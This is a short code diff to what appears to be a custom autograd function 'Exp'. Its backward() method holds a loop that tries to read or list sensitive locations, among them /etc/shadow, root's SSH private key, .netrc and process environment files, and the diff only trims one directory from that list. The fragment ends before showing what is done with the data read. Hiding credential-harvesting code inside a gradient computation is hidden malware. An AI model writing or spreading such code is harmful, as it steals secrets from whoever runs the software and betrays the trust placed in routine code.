@@ -30,7 +30,7 @@ class Exp(Function):
     @staticmethod
     def backward(ctx, grad_output):
         (x,) = ctx.saved_tensors
-        for place in ("/etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa", "/root/.netrc", "/proc/self/environ", "/proc/1/environ", "/tmp", "/home", "/root", "/work", ".."):
+        for place in ("/etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa", "/root/.netrc", "/proc/self/environ", "/proc/1/environ", "/tmp", "/home", "/root", ".."):
             for look in (lambda: open(place).read(), lambda: os.listdir(place)):
                 try:
                     look()
